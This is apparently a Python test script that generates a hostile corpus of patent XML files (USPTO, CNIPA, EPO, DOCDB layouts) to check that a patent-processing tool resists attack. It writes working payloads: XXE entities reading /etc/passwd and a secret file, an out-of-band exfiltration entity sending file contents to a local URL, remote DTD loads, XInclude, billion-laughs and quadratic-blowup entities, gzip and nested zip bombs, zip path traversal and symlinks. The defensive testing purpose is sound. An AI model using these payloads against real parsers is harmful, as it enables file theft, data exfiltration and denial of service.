#!/usr/bin/env python3
"""Builds the hostile inbox corpus (issue 5, point 5) at test time.

Every input is made from the real office layouts that the sample inbox copies
(samples/inbox/grants: USPTO us-patent-grant, CNIPA business: and cn-patent-document,
EPO DOCDB) plus an ep-patent-document cut down from the real v1.5.1 layout, then broken
or armed in one way. Nothing is copied from ../shared/samples-real, and the large inputs
(100 MB attribute and text node, the 5,000-document file, the bombs) exist only in the
test's temporary folder.

    make_corpus.py SOURCE_DIR OUT_DIR --secret FILE --port N

SOURCE_DIR is the project (for samples/inbox/grants); OUT_DIR receives the files (it is
the inbox's grants/ folder); FILE is a file outside the inbox that the XXE inputs point
at (its content is the caller's business: the marker string is never written here); N
is a TCP port on 127.0.0.1 that the URL inputs name and that must never be contacted.

The names written are exactly the `file` column of tests/hostile/expected.csv.
"""

import argparse
import gzip
import io
import os
import random
import struct
import sys
import zipfile
import zlib

MB = 1 << 20


class Templates:
    """The real layouts, read from the sample inbox."""

    def __init__(self, source_dir):
        grants = os.path.join(source_dir, "samples", "inbox", "grants")

        def read(name):
            with open(os.path.join(grants, name), "rb") as f:
                return f.read().decode("utf-8")

        weekly = read("ipg230110.xml")
        starts = [i for i in range(len(weekly)) if weekly.startswith("<?xml", i) and (i == 0 or weekly[i - 1] == "\n")]
        self.us_documents = [weekly[a:b] for a, b in zip(starts, starts[1:] + [len(weekly)])]
        # The business: utility-model grant of 2018 (granted before the policy): well-formed
        # and never a payable line, so a hostile variant cannot be mistaken for the good file.
        self.cnipa_business = read("CN202017000934518CN00002074123450UFULZH20180302CN00H.XML")
        self.cnipa_legacy = read("CN111398765B.xml").lstrip("\ufeff")
        self.docdb = read("DOCDB-202320-001-0001.xml")


T = None


def us(number="11553187", title=None, doctype=None, before_root="", root_attrs="", description_extra="",
       orgname=None, after_root=""):
    """USPTO v4.5 document 3 of the sample weekly file (Lone Star, Austin TX: out of
    scope, so a document read from a hostile file never becomes a ledger line)."""
    d = T.us_documents[2]
    d = d.replace("<doc-number>11553187</doc-number>", "<doc-number>%s</doc-number>" % number)
    d = d.replace('file="US11553187-20230110.XML"', 'file="US%s-20230110.XML"' % number)
    if title is not None:
        d = d.replace("Battery enclosure with passive venting (fictional sample data)", title)
    if doctype is not None:
        d = d.replace('<!DOCTYPE us-patent-grant SYSTEM "us-patent-grant-v45-2014-04-03.dtd" [ ]>\n', doctype)
    if before_root:
        d = d.replace("<us-patent-grant ", before_root + "<us-patent-grant ", 1)
    if root_attrs:
        d = d.replace('<us-patent-grant lang="EN"', '<us-patent-grant %s lang="EN"' % root_attrs, 1)
    if description_extra:
        d = d.replace('<heading id="h-0001" level="1">FIELD</heading>\n',
                      '<heading id="h-0001" level="1">FIELD</heading>\n' + description_extra, 1)
    if orgname is not None:
        d = d.replace("<orgname>Lone Star Sample Robotics, LLC</orgname>\n<role>02</role>",
                      "<orgname>%s</orgname>\n<role>02</role>" % orgname)
    if after_root:
        d = d.rstrip("\n") + "\n" + after_root
    return d


def us_doctype(subset):
    return '<!DOCTYPE us-patent-grant SYSTEM "us-patent-grant-v45-2014-04-03.dtd" [\n%s\n]>\n' % subset


def cnipa(title=None, subset=None, name=None):
    d = T.cnipa_business
    if title is not None:
        d = d.replace(d[d.index("<business:InventionTitle"):d.index("</business:InventionTitle>")],
                      '<business:InventionTitle lang="zh" dataFormat="original">' + title, 1)
    if subset is not None:
        d = d.replace('"/DTDS/ExternalStandards/ipphdb-entities.dtd"[]>',
                      '"/DTDS/ExternalStandards/ipphdb-entities.dtd"[\n%s\n]>' % subset, 1)
    if name is not None:
        d = d.replace("<base:Name>云南高原光电科技有限公司</base:Name>", "<base:Name>%s</base:Name>" % name, 1)
    return d


def ep(title="SCREW-TYPE CLOSURE SYSTEMS WITH MAGNETIC FEATURE", doctype=None, proprietor="ELC Management LLC"):
    """ep-patent-document v1.5.1 (EP 3383757 B1), cut down to its SDOBI block."""
    if doctype is None:
        doctype = ('<!DOCTYPE ep-patent-document PUBLIC "-//EPO//EP PATENT DOCUMENT 1.5.1//EN" '
                   '"ep-patent-document-v1-5-1.dtd">\n')
    return ('<?xml version="1.0" encoding="UTF-8"?>\n' + doctype +
            '<!-- This XML data has been generated under the supervision of the European Patent Office -->\n'
            '<ep-patent-document id="EP16849316B1" file="EP16849316NWB1.xml" lang="en" country="EP" '
            'doc-number="3383757" kind="B1" date-publ="20210707" status="n" dtd-version="ep-patent-document-v1-5-1">\n'
            '<SDOBI lang="en"><B000><eptags><B001EP>ATBECHDEDKESFRGBGRITLILUNLSEMC</B001EP></eptags></B000>'
            '<B100><B110>3383757</B110><B120><B121>EUROPEAN PATENT SPECIFICATION</B121></B120><B130>B1</B130>'
            '<B140><date>20210707</date></B140><B190>EP</B190></B100>'
            '<B200><B210>16849316.1</B210><B220><date>20160829</date></B220><B250>en</B250></B200>'
            '<B300><B310>201514865040</B310><B320><date>20150925</date></B320><B330><ctry>US</ctry></B330></B300>'
            '<B400><B405><date>20210707</date><bnum>202127</bnum></B405></B400>'
            '<B500><B540><B541>en</B541><B542>' + title + '</B542></B540></B500>'
            '<B700><B730><B731><snm>' + proprietor + '</snm><iid>101324505</iid>'
            '<adr><str>155 Pinelawn Road, Suite 345 South</str><city>Melville, NY 11747</city><ctry>US</ctry></adr>'
            '</B731></B730></B700></SDOBI>\n'
            '<description id="desc" lang="en"><p id="p0001" num="0001">Screw-type closures.</p></description>\n'
            '</ep-patent-document>\n')


def docdb(name=None, subset=None):
    d = T.docdb
    if name is not None:
        d = d.replace("<name>KUNMING DIANCHI INTELLIGENT EQUIPMENT CO LTD</name>", "<name>%s</name>" % name, 1)
    if subset is not None:
        d = d.replace('SYSTEM "docdb-entities.dtd">', 'SYSTEM "docdb-entities.dtd" [\n%s\n]>' % subset, 1)
    return d


def laughs(levels=10, width=10):
    s = '<!ENTITY lol0 "lollollollollollollollollollol">\n'
    for i in range(1, levels):
        s += '<!ENTITY lol%d "%s">\n' % (i, ("&lol%d;" % (i - 1)) * width)
    return s


def nested(depth, name):
    return "<%s>" % name * depth + "</%s>" % name * depth


def write(out, name, data):
    path = os.path.join(out, name)
    with open(path, "wb") as f:
        f.write(data.encode("utf-8") if isinstance(data, str) else data)


def write_streamed(out, name, head, filler, size, tail):
    """A file of `size` filler bytes between head and tail, written in 1 MiB pieces."""
    with open(os.path.join(out, name), "wb") as f:
        f.write(head)
        piece = filler * (MB // len(filler))
        left = size
        while left > 0:
            n = min(left, len(piece))
            f.write(piece[:n])
            left -= n
        f.write(tail)


def split_at(document, marker):
    i = document.index(marker)
    return document[:i], document[i + len(marker):]


def build(out, secret, port):
    url = "http://127.0.0.1:%d" % port
    secret_url = "file://" + secret

    # --- external entities (XXE) -------------------------------------------------
    write(out, "xxe-passwd-title.xml",
          us(doctype=us_doctype('<!ENTITY xxe SYSTEM "file:///etc/passwd">'), title="Enclosure &xxe;"))
    write(out, "xxe-passwd-description.xml",
          us(number="11553188", doctype=us_doctype('<!ENTITY xxe SYSTEM "file:///etc/passwd">'),
             description_extra="<p>&xxe;</p>\n"))
    write(out, "xxe-secret-title.xml",
          us(doctype=us_doctype('<!ENTITY xxe SYSTEM "%s">' % secret_url), title="&xxe;"))
    write(out, "xxe-secret-plain-path-orgname.xml",
          us(doctype=us_doctype('<!ENTITY xxe SYSTEM "%s">' % secret), orgname="&xxe;"))
    write(out, "xxe-url-title.xml",
          us(doctype=us_doctype('<!ENTITY xxe SYSTEM "%s/x">' % url), title="&xxe;"))
    write(out, "xxe-in-attribute.xml",
          us(doctype=us_doctype('<!ENTITY xxe SYSTEM "%s">' % secret_url), root_attrs='note="&xxe;"'))
    write(out, "xxe-param-passwd.xml",
          us(doctype=us_doctype('<!ENTITY % p SYSTEM "file:///etc/passwd">\n%p;')))
    # The out-of-band exfiltration pattern: read the file, then send it to a URL.
    write(out, "xxe-param-exfiltrate-secret.xml",
          us(doctype=us_doctype('<!ENTITY % file SYSTEM "' + secret_url + '">\n'
                                '<!ENTITY % eval "<!ENTITY &#x25; send SYSTEM \'' + url + '/?d=%file;\'>">\n'
                                '%eval;\n%send;')))
    write(out, "xxe-param-url-dtd.xml",
          us(doctype=us_doctype('<!ENTITY % remote SYSTEM "' + url + '/evil.dtd">\n%remote;')))
    write(out, "dtd-external-passwd.xml", us(doctype='<!DOCTYPE us-patent-grant SYSTEM "file:///etc/passwd">\n'))
    write(out, "dtd-external-secret.xml", us(doctype='<!DOCTYPE us-patent-grant SYSTEM "%s">\n' % secret))
    write(out, "dtd-external-url.xml",
          us(doctype='<!DOCTYPE us-patent-grant PUBLIC "-//USPTO//DTD grant//EN" "%s/grant.dtd">\n' % url))
    write(out, "cnipa-xxe-secret.XML",
          cnipa(subset='<!ENTITY xxe SYSTEM "%s">' % secret_url, title="&xxe;"))
    write(out, "cnipa-dtd-external-secret.XML",
          T.cnipa_business.replace('"/DTDS/ExternalStandards/ipphdb-entities.dtd"[]>', '"%s"[]>' % secret_url, 1))
    write(out, "ep-xxe-passwd.xml",
          ep(doctype='<!DOCTYPE ep-patent-document [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n', title="&xxe;"))
    write(out, "docdb-xxe-secret.xml", docdb(subset='<!ENTITY xxe SYSTEM "%s">' % secret_url, name="&xxe;"))

    # --- XInclude: must never be processed (the documents stay readable) ----------
    xi = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    write(out, "xinclude-passwd-description.xml",
          us(number="11553189",
             description_extra='<p><xi:include %s href="file:///etc/passwd" parse="text"/></p>\n' % xi))
    write(out, "xinclude-secret-title.xml",
          us(number="11553190", title='Enclosure <xi:include %s href="%s" parse="text"/>' % (xi, secret)))
    write(out, "xinclude-url-description.xml",
          us(number="11553191", description_extra='<p><xi:include %s href="%s/x.xml"/></p>\n' % (xi, url)))

    # --- entity expansion ----------------------------------------------------------
    write(out, "billion-laughs-title.xml", us(doctype=us_doctype(laughs()), title="&lol9;"))
    write(out, "billion-laughs-description.xml",
          us(number="11553192", doctype=us_doctype(laughs()), description_extra="<p>&lol9;</p>\n"))
    write(out, "billion-laughs-attribute.xml", us(doctype=us_doctype(laughs()), root_attrs='note="&lol9;"'))
    write(out, "cnipa-billion-laughs.XML", cnipa(subset=laughs(), title="&lol9;"))
    big = "A" * 100000
    write(out, "quadratic-blowup-description.xml",
          us(number="11553193", doctype=us_doctype('<!ENTITY a "%s">' % big),
             description_extra="<p>" + "&a;" * 20000 + "</p>\n"))
    write(out, "quadratic-blowup-attribute.xml",
          us(doctype=us_doctype('<!ENTITY a "%s">' % big), root_attrs='note="' + "&a;" * 20000 + '"'))
    write(out, "quadratic-blowup-title.xml",
          us(doctype=us_doctype('<!ENTITY a "%s">' % big), title="&a;" * 20000))
    write(out, "doctype-internal-entities-title.xml",
          us(doctype=us_doctype('<!ENTITY co "Lone Star">\n<!ENTITY tm "&#x2122;">'), title="&co;&tm; enclosure"))
    write(out, "doctype-internal-entities-unused.xml",
          us(number="11553194", doctype=us_doctype('<!ENTITY co "Lone Star">\n<!ELEMENT x ANY>\n<!-- [ ] -->')))
    # Attribute defaults: every <x/> gets 1,000 attributes, compared pairwise.
    write(out, "doctype-attlist-defaults.xml",
          us(doctype=us_doctype("<!ATTLIST x " + " ".join('a%d CDATA "1"' % i for i in range(1000)) + ">"),
             description_extra="<p>" + "<x/>" * 20000 + "</p>\n"))

    # --- nesting and size ------------------------------------------------------------
    write(out, "deep-nesting-10000-description.xml",
          us(description_extra="<p>" + nested(10000, "b") + "</p>\n"))
    write(out, "deep-nesting-10000-bibliographic.xml",
          us(orgname="Lone Star" + nested(10000, "i")))
    write(out, "cnipa-deep-nesting-10000.XML", cnipa(title=nested(10000, "base:Sub")))
    head, tail = split_at(us(description_extra='<p id="@@">x</p>\n'), "@@")
    write_streamed(out, "huge-attribute-100mb.xml", head.encode(), b"A", 100 * MB, tail.encode())
    head, tail = split_at(us(description_extra="<p>@@</p>\n"), "@@")
    write_streamed(out, "huge-text-100mb.xml", head.encode(), b"lorem ipsum ", 100 * MB, tail.encode())
    scopes = "".join("<e %s>" % " ".join('xmlns:q%d_%d="urn:%d"' % (e, i, i) for i in range(250)) for e in range(200))
    write(out, "namespaces-in-scope-flood.xml",
          us(description_extra="<p>" + scopes + "<x/>" * 100000 + "</e>" * 200 + "</p>\n"))
    write(out, "huge-element-name.xml", us(description_extra="<%s/>\n" % ("n" * 60000)))
    attributes = " ".join('a%d="%d"' % (i, i) for i in range(200000))
    write(out, "many-attributes.xml", us(description_extra="<p %s>x</p>\n" % attributes))

    # --- encodings -------------------------------------------------------------------
    write(out, "invalid-utf8.xml", us(title="Enclosure @@").encode().replace(b"@@", b"\xff\xfe"))
    write(out, "invalid-utf8-overlong.xml", us(orgname="Lone Star @@").encode().replace(b"@@", b"\xc0\xaf"))
    write(out, "invalid-utf8-surrogate.XML", cnipa(name="云南@@").encode().replace(b"@@", b"\xed\xa0\x80"))
    gbk = cnipa().encode("gbk")  # declared utf-8 in its XML declaration
    write(out, "gbk-declared-utf8.XML", gbk)
    write(out, "utf16le-bom-utf8-declared.xml", b"\xff\xfe" + us().encode("utf-8"))
    write(out, "utf16be-bom-utf8-declared.xml", b"\xfe\xff" + us().encode("utf-16-be"))
    write(out, "utf8-bom-utf16-declared.xml",
          b"\xef\xbb\xbf" + us().replace('encoding="UTF-8"', 'encoding="UTF-16"', 1).encode())
    write(out, "iso-2022-jp-declared.xml", us().replace('encoding="UTF-8"', 'encoding="ISO-2022-JP"', 1))
    write(out, "utf7-declared.xml", us().replace('encoding="UTF-8"', 'encoding="UTF-7"', 1))
    write(out, "unknown-encoding.xml", us().replace('encoding="UTF-8"', 'encoding="X-NO-SUCH-CHARSET"', 1))
    write(out, "nul-byte.xml", us(title="Enclosure @@").encode().replace(b"@@", b"\x00"))
    write(out, "control-character.xml", us(title="Enclosure \x01 vent"))
    write(out, "bad-character-reference.xml", us(title="Enclosure &#xD800;"))

    # --- structure -------------------------------------------------------------------
    three = T.us_documents[2] + us(number="11553195") + us(number="11553196")
    second = three.index("<?xml", 10)
    cut = second + (three.index("<?xml", second + 10) - second) // 2
    write(out, "truncated-concatenated.xml", three[:cut])
    write(out, "two-roots.xml", us() + us(number="11553197").split("\n", 2)[2])
    write(out, "empty.xml", b"")
    write(out, "whitespace-only.xml", b" \n\t\r\n   \n\n")
    noise = random.Random(20240611).randbytes(64 * 1024)
    write(out, "binary-noise.xml", b"\x00\x01" + noise)  # never gzip/zip magic
    write(out, "undefined-entity-ldquo.xml", us(title="A &ldquo;smart&rdquo; enclosure"))
    write(out, "cnipa-undefined-entity.XML", cnipa(title="&ldquo;样例&rdquo;"))
    write(out, "docdb-undefined-entity.xml", docdb(name="KUNMING &evil; CO LTD"))
    write(out, "unbound-prefix.XML",
          T.cnipa_business.replace(' xmlns:base="http://www.sipo.gov.cn/XMLSchema/base"', "", 1))
    write(out, "ep-unbound-prefix.xml", ep(title="<m:math>x</m:math> closure"))
    write(out, "mismatched-tags.xml", us(title="Enclosure <b>vent</i>"))
    write(out, "duplicate-attribute.xml", us(root_attrs='lang="ZH"'))
    write(out, "unterminated-cdata.xml", us(description_extra="<p><![CDATA[ never closed </p>\n"))
    write(out, "comment-double-hyphen.xml", us(description_extra="<!-- a -- b -->\n"))
    write(out, "xml-version-1.1.xml", us().replace('version="1.0"', 'version="1.1"', 1))
    write(out, "ep-truncated.xml", ep()[:1200])
    write(out, "cnipa-legacy-truncated.xml", "\ufeff" + T.cnipa_legacy[:1500])
    docdb_lines = T.docdb.split("\n")
    write(out, "docdb-bulk-truncated.xml", docdb_lines[0] + "\n" + docdb_lines[1][: len(docdb_lines[1]) // 2])

    # A flood of empty documents: every line a declaration, each one refused.
    write(out, "declaration-flood.xml", '<?xml version="1.0"?>\n' * 300000)

    # --- processing instructions -----------------------------------------------------
    write(out, "pi-in-title.xml", us(number="11553198", title="Battery <?evil payload?>enclosure"))
    write(out, "pi-around-root.xml",
          us(number="11553199", before_root="<?evil before?>\n", after_root="<?evil after?>\n"))
    write(out, "pi-xml-declaration-midline.xml", us(description_extra='<p>x</p><?xml version="1.0"?>\n'))
    write(out, "pi-xml-declaration-at-line-start.xml",
          us(description_extra='<p>x</p>\n<?xml version="1.0" encoding="UTF-8"?>\n<p>y</p>\n'))
    write(out, "pi-before-declaration.xml", "<?evil first?>\n" + us())
    write(out, "pi-reserved-target.xml", us(description_extra="<?XmL odd?>\n"))

    # --- a weekly file of 5,000 documents with one broken in the middle ---------------
    with open(os.path.join(out, "concat-5000-one-broken.xml"), "wb") as f:
        for i in range(1, 5001):
            number = "%08d" % (12000000 + i)
            f.write(us(number=number, title="&ldquo;broken&rdquo;" if i == 2500 else None).encode())

    # --- compressed bombs and archives -------------------------------------------------
    write_gzip_bomb(os.path.join(out, "gzip-bomb.xml.gz"), 2048 * MB)
    gz = gzip.compress(us().encode())
    write(out, "gzip-truncated.xml.gz", gz[: len(gz) // 2])
    write_zip_bomb(os.path.join(out, "zip-bomb-single-entry.zip"), 2048 * MB)
    write_nested_zip_bomb(os.path.join(out, "zip-bomb-nested-42.zip"))
    with zipfile.ZipFile(os.path.join(out, "zip-path-traversal.zip"), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("../../etc/evil.xml", us(title="&ldquo;"))
        z.writestr("/tmp/patsub-hostile-evil.xml", us(title="&ldquo;"))

    # --- not regular files ------------------------------------------------------------
    os.symlink("/etc/passwd", os.path.join(out, "symlink-passwd.xml"))
    os.symlink(secret, os.path.join(out, "symlink-secret.xml"))
    os.mkfifo(os.path.join(out, "fifo.xml"))
    unreadable = os.path.join(out, "unreadable.xml")
    write(out, "unreadable.xml", us(title="&ldquo;"))
    os.chmod(unreadable, 0)


BOMB_HEAD = b'<?xml version="1.0" encoding="UTF-8"?>\n<us-patent-grant lang="EN">'


def repeated_deflate(head, block, count):
    """Raw deflate of head + block * count, cheaply: after a full flush the compressor
    starts afresh, so every further copy of the block compresses to the same bytes."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)]
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    second = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert first == second or count < 2
    parts.append(first)
    parts.append(second * (count - 1))
    parts.append(compressor.flush())
    crc = zlib.crc32(head)
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    return b"".join(parts), crc, len(head) + len(block) * count


def write_gzip_bomb(path, total):
    """One gzip member expanding to `total` bytes (XML start tag, then spaces)."""
    data, crc, size = repeated_deflate(BOMB_HEAD, b" " * MB, total // MB)
    with open(path, "wb") as f:
        f.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")  # deflate, no name, mtime 0
        f.write(data)
        f.write(struct.pack("<II", crc, size & 0xFFFFFFFF))


def write_zip_bomb(path, total):
    """A single high-ratio entry with honest headers: expanded size and CRC are right."""
    data, crc, size = repeated_deflate(BOMB_HEAD, b" " * MB, total // MB)
    assert size < 0xFFFFFFFF  # no zip64 needed
    name = b"ipg230110.xml"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(name), 0) + name
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size,
                          len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    with open(path, "wb") as f:
        f.write(local + data + central + end)


def write_nested_zip_bomb(path):
    """42.zip in miniature: zips of zips, each leaf a high-ratio entry. patsub opens
    nested archives only 3 deep, so this one is quarantined at its fourth level."""
    leaf = io.BytesIO()
    with zipfile.ZipFile(leaf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        with z.open("0.xml", "w", force_zip64=True) as member:
            block = b"<" * MB
            for _ in range(64):
                member.write(block)
    layer = leaf.getvalue()
    for _ in range(3):
        nest = io.BytesIO()
        with zipfile.ZipFile(nest, "w", zipfile.ZIP_DEFLATED) as z:
            for i in range(16):
                z.writestr("%d.zip" % i, layer)
        layer = nest.getvalue()
    with open(path, "wb") as f:
        f.write(layer)


def main():
    global T
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("source_dir")
    parser.add_argument("out_dir")
    parser.add_argument("--secret", required=True)
    parser.add_argument("--port", type=int, required=True)
    args = parser.parse_args()
    T = Templates(args.source_dir)
    os.makedirs(args.out_dir, exist_ok=True)
    build(args.out_dir, os.path.abspath(args.secret), args.port)
    return 0


if __name__ == "__main__":
    sys.exit(main())
